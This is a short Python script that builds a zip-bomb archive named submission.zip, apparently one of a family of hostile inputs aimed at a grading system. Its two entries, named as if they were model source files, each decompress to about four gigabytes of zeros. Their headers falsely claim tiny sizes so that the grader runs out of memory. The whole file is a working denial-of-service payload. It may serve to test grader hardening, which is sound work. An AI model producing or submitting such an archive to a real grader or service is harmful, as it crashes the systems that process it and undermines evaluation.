"""Fill the grader's memory: four gigabytes of zeros in an entry that says it holds ten bytes."""

import struct
import zlib

FAMILY = "archives"

BLOCKS = 4096


def build(folder):
    # A block that ends in a full flush can be repeated without compressing it again.
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = block * BLOCKS + b"\3\0"
    head = bytearray()
    contents = bytearray()
    for name, claimed in ((b"linear.py", 10), (b"conv2d.py", 0xFFFFFFFF)):
        place = len(head)
        fields = (20, 0, 8, 0, 0x5821, 0, len(data), claimed, len(name), 0)
        head += struct.pack("<4s5H3L2H", b"PK\3\4", *fields) + name + data
        contents += struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, *fields, 0, 0, 0, 0, place) + name
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 2, 2, len(contents), len(head), 0)
    path = folder / "submission.zip"
    path.write_bytes(head + contents + end)
    return path
